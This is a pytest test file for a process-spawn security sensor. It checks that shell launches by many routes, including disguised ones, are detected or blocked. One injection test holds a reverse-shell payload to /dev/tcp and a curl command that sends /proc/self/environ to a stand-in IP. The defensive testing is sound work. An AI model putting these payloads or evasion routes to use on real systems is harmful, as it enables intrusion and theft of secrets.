"""Process spawns by every route the standard library offers."""

from __future__ import annotations

import pytest

from tests.sensor.conftest import run_case

ROUTES = [
    ("popen_list", "subprocess.run(['sh', '-c', 'true'])"),
    ("popen_shell", "subprocess.run('true', shell=True)"),
    ("check_output", "subprocess.check_output(['/bin/bash', '-c', 'echo hi'])"),
    ("os_system", "os.system('true')"),
    ("os_popen", "os.popen('true').read()"),
    ("posix_spawn", "os.waitpid(os.posix_spawn('/bin/sh', ['sh', '-c', 'true'], os.environ), 0)"),
    ("posix_spawnp", "os.waitpid(os.posix_spawnp('sh', ['sh', '-c', 'true'], os.environ), 0)"),
    ("spawnv", "os.spawnv(os.P_WAIT, '/bin/sh', ['sh', '-c', 'true'])"),
    ("spawnlp", "os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', 'true')"),
    (
        "fork_exec",
        "pid = os.fork()\nif pid == 0:\n    os.execv('/bin/sh', ['sh', '-c', 'true'])\nos.waitpid(pid, 0)",
    ),
    ("pty", "import pty; pty.spawn(['/bin/sh', '-c', 'true'])"),
    (
        "asyncio",
        "import asyncio\nasync def m():\n    p = await asyncio.create_subprocess_shell('true')\n    await p.wait()\nasyncio.run(m())",
    ),
    ("env_launcher", "subprocess.run(['env', 'A=1', 'sh', '-c', 'true'])"),
    ("timeout_launcher", "subprocess.run(['timeout', '5', 'bash', '-c', 'true'])"),
    (
        "posixsubprocess",
        "import _posixsubprocess, subprocess as sp\n"
        "args = [b'/bin/sh', b'-c', b'true']\n"
        "r, w = os.pipe()\n"
        "pid = _posixsubprocess.fork_exec(args, [b'/bin/sh'], True, (w,), None, None, -1, -1, -1, -1, -1, -1, r, w, True, False, 0, None, None, None, -1, None, False)\n"
        "os.waitpid(pid, 0)",
    ),
    (
        "symlinked_sh",
        "os.symlink('/bin/sh', '/tmp/innocent'); subprocess.run(['/tmp/innocent', '-c', 'true'])",
    ),
    ("argv0_disguise", "subprocess.run(['not-a-shell', '-c', 'true'], executable='/bin/sh')"),
]


@pytest.mark.parametrize(("name", "code"), ROUTES, ids=[r[0] for r in ROUTES])
def test_shell_spawn_is_seen_by_every_route(name, code):
    r = run_case(
        f"""
import os, subprocess
exec({code!r})
"""
    )
    alerts = [a for a in r.alerts() if a["kind"] == "process.spawn"]
    assert alerts, (name, r.stdout, r.stderr)
    assert any("default.shell" in [a["rule"], *a.get("matched", [])] for a in alerts), alerts
    a = alerts[0]
    assert a["executable"].startswith("/") and a["argv"]
    assert r.returncode == 0, r.stderr  # monitor mode: the function was not disturbed


def test_enforce_blocks_shell_and_it_never_runs():
    r = run_case(
        """
import os, subprocess
attempt("run", lambda: subprocess.run(["sh", "-c", "touch /tmp/ramparts-pwned"]))
attempt("system", lambda: os.system("touch /tmp/ramparts-pwned"))
attempt("exists", lambda: os.path.exists("/tmp/ramparts-pwned"))
attempt("ls_ok", lambda: subprocess.run(["ls", "/"], capture_output=True).returncode)
""",
        env={"RAMPARTS_MODE": "enforce"},
        isolate=True,
    )
    assert r.results["run"]["ramparts"] and r.results["system"]["ramparts"]
    assert "default.shell" in r.results["run"]["msg"]
    assert r.results["exists"] == {"ok": True, "value": False}
    assert r.results["ls_ok"] == {"ok": True, "value": 0}  # ordinary programs still run


def test_blocked_exec_in_a_forked_child_ends_the_child_not_the_function():
    r = run_case(
        """
import os
pid = os.fork()
if pid == 0:
    os.execv("/bin/sh", ["sh", "-c", "touch /tmp/ramparts-child"])
    os._exit(0)  # never reached in enforce mode
_, status = os.waitpid(pid, 0)
attempt("child_status", lambda: os.waitstatus_to_exitcode(status))
attempt("exists", lambda: os.path.exists("/tmp/ramparts-child"))
""",
        env={"RAMPARTS_MODE": "enforce"},
        isolate=True,
    )
    assert r.results["child_status"] == {"ok": True, "value": 126}
    assert r.results["exists"] == {"ok": True, "value": False}
    [block] = r.alerts("default.shell")
    assert block["verdict"] == "block" and block["pid"] != 0


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("subprocess.run(['curl', '--version'], executable='/bin/true')", "default.network-tool"),
        ("subprocess.run(['wget', '-q', 'x'], executable='/bin/true')", "default.network-tool"),
        ("subprocess.run(['python3', '-c', 'import socket'])", "default.inline-code"),
        ("subprocess.run(['perl', '-e', '1'], executable='/bin/true')", "default.inline-code"),
        (
            "shutil.copy('/bin/true', '/tmp/dropper'); os.chmod('/tmp/dropper', 0o755); "
            "subprocess.run(['/tmp/dropper'])",
            "default.writable-exec",
        ),
        (
            "open('/dev/shm/x.py', 'w').write('pass'); subprocess.run([sys.executable, '/dev/shm/x.py'])",
            "default.writable-exec",
        ),
        (
            "subprocess.run(['true'], env={'LD_PRELOAD': '/tmp/evil.so', 'PATH': '/usr/bin:/bin'})",
            "default.preload",
        ),
    ],
)
def test_other_built_in_process_rules(code, rule):
    r = run_case(
        f"""
import os, subprocess, shutil, sys
exec({code!r})
""",
        tmpfs=("/dev/shm",),
    )
    assert r.alerts(rule), (r.stdout, r.stderr)


def test_ordinary_programs_and_multiprocessing_are_normal_work():
    r = run_case(
        """
import subprocess, multiprocessing as mp
subprocess.run(["ls", "/"], capture_output=True)
subprocess.run(["git", "--version"], capture_output=True) if __import__("shutil").which("git") else None
def work(q):
    q.put(1)
if __name__ == "__main__":
    ctx = mp.get_context("spawn")
    q = ctx.Queue()
    p = ctx.Process(target=work, args=(q,))
    p.start(); p.join()
    attempt("mp", lambda: q.get(timeout=5))
    SENSOR.flush()
"""
    )
    assert r.results["mp"] == {"ok": True, "value": 1}, r.stderr
    assert r.alerts() == [], [(a["rule"], a.get("argv")) for a in r.alerts()]
    assert r.total("process.spawn", "allow") >= 2


def test_preload_variable_set_in_process_is_reported():
    r = run_case(
        """
import os
os.environ["LD_PRELOAD"] = "/tmp/hook.so"
"""
    )
    [a] = r.alerts("default.preload")
    assert a["kind"] == "process.env" and a["variable"] == "LD_PRELOAD"


def test_process_allowlist():
    policy = '{"process": {"allow": ["/usr/bin/ls", "/bin/ls"]}}'
    r = run_case(
        """
import subprocess
attempt("ls", lambda: subprocess.run(["ls"], capture_output=True).returncode)
attempt("echo", lambda: subprocess.run(["echo", "x"], capture_output=True).returncode)
""",
        env={"RAMPARTS_POLICY": policy, "RAMPARTS_MODE": "enforce"},
        isolate=True,
    )
    assert r.results["ls"] == {"ok": True, "value": 0}
    assert r.results["echo"]["ramparts"] is True
    assert r.alerts("policy.process")[0]["executable"].endswith("/echo")


def test_injection_into_a_shell_the_policy_allows():
    # GIVEN a function allowed its own shell command (sh -c "wc -c FILE")
    policy = '{"process": {"allow": ["/bin/sh", "/usr/bin/dash", "/usr/bin/bash", "/usr/bin/wc", "/bin/wc"]}}'
    code = """
import subprocess
def count(name):
    return subprocess.run(f"wc -c '/tmp/{name}'", shell=True, capture_output=True).returncode
open("/tmp/notes.txt", "w").write("hello")
attempt("benign", lambda: count("notes.txt"))
attempt("reverse_shell", lambda: count("x'; sh -i >& /dev/tcp/192.0.2.1/4444 0>&1 #"))
attempt("exfil", lambda: count("x'; cat /proc/self/environ | curl -d @- http://192.0.2.1 #"))
"""
    r = run_case(code, env={"RAMPARTS_POLICY": policy, "RAMPARTS_MODE": "enforce"})
    # THEN the function's own command runs, the injected ones are blocked before they start
    assert r.results["benign"] == {"ok": True, "value": 0}
    assert r.results["reverse_shell"]["ramparts"] and r.results["exfil"]["ramparts"]
    rev, exfil = r.alerts()
    assert rev["rule"] == "default.network-tool" and "default.shell" in rev["matched"]
    assert "/dev/tcp" in rev["programs"]
    assert {"policy.process", "default.network-tool"} <= {exfil["rule"], *exfil["matched"]}


def test_inherited_loader_path_is_not_an_alert():
    # Lambda sets LD_LIBRARY_PATH for every function; passing the environment on is normal
    r = run_case(
        """
import os, subprocess
subprocess.run(["true"], env=dict(os.environ))
os.environ["LD_LIBRARY_PATH"] = os.environ["LD_LIBRARY_PATH"]
attempt("changed", lambda: subprocess.run(["true"], env={**os.environ, "LD_LIBRARY_PATH": "/tmp/lib"}))
""",
        env={
            "LD_LIBRARY_PATH": "/var/lang/lib:/lib64:/usr/lib64:/var/runtime:/var/task/lib:/opt/lib"
        },
    )
    [alert] = r.alerts("default.preload")
    assert alert["env"] == ["LD_LIBRARY_PATH"]


def test_programs_given_a_sensitive_file_are_reads_of_it():
    r = run_case(
        """
import subprocess, os
subprocess.run(["cat", "/proc/self/environ"], capture_output=True)
subprocess.run("base64 /proc/1/../self/environ", shell=True, capture_output=True)
subprocess.run(["ls", "/tmp"], capture_output=True)
"""
    )
    alerts = [
        a for a in r.alerts() if "default.sensitive-read" in [a["rule"], *a.get("matched", [])]
    ]
    # the direct one, and the one inside a shell command string; `ls /tmp` is nothing
    assert [a["argv"][0] for a in alerts] == ["cat", "/bin/sh"]
